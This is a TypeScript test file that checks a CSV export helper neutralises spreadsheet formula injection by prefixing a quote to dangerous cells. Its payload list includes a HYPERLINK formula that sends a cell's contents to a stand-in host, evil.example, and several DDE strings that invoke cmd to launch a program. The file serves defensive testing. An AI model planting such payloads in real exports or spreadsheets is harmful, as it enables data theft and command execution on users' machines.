import { parse } from 'csv-parse/sync';
import { neutraliseCell, safeCsv } from './csv';

describe('CSV export cells', () => {
  const payloads: [string, string][] = [
    ['=', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+', "+cmd|' /C calc'!A0"],
    ['-', "-2+3+cmd|' /C calc'!A0"],
    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ];

  it.each(payloads)('neutralises a cell beginning with %s: a leading quote, the rest kept', (_name, payload) => {
    expect(neutraliseCell(payload)).toBe(`'${payload}`);
    // Through the whole document: the cell read back is the quoted text, never a formula.
    const [row] = parse(safeCsv(['reason'], [[payload]]), { columns: true, relax_quotes: true }) as { reason: string }[];
    expect(row!.reason).toBe(`'${payload}`);
    expect(row!.reason.startsWith("'")).toBe(true);
  });

  it('leaves ordinary cells alone: text, a formula character later in the text, numbers, dates, empty cells', () => {
    expect(neutraliseCell('duplicate of fx-a')).toBe('duplicate of fx-a');
    expect(neutraliseCell('a=b')).toBe('a=b');
    expect(neutraliseCell(7)).toBe('7');
    expect(neutraliseCell(new Date('2025-08-01T03:00:00Z'))).toBe('2025-08-01T03:00:00.000Z');
    expect(neutraliseCell(null)).toBeNull();
    expect(neutraliseCell(undefined)).toBeNull();
  });
});
